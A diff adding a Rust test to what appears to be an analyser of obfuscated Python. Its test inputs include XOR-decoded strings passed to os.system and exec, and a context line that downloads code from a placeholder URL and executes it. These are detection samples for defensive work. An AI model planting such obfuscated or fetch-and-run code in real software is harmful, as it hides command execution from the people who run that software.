@@ -237,6 +237,17 @@ fn constants_are_folded() {
 }
 
 #[test]
+fn loops_that_get_nowhere_leave_effort_for_those_that_decode() {
+    let spins = "def spin():\n    i = 0\n    while i < 1 << 40:\n        i += 1\n    return i\nspin()\n";
+    let decodes = "import os\ndef decode(d):\n    s = ''\n    for c in d:\n        s += chr(c ^ 1)\n    return s\n";
+    states(&format!("{spins}{decodes}os.system(decode([104, 101]))"), &[SYSTEM, "'id'"]);
+    // What gets somewhere is followed for long.
+    let text: Vec<String> = "print(1)\n".repeat(400).bytes().map(|byte| (byte ^ 1).to_string()).collect();
+    let (_, children, _) = read(format!("{decodes}exec(decode([{}]))", text.join(",")).as_bytes());
+    assert_eq!(children, ["exec-argument.py"]);
+}
+
+#[test]
 fn where_an_argument_comes_from_stays_visible() {
     states(
         "import urllib.request as u\ndef f():\n    code = u.urlopen('http://x').read()\n    exec(code.decode())",
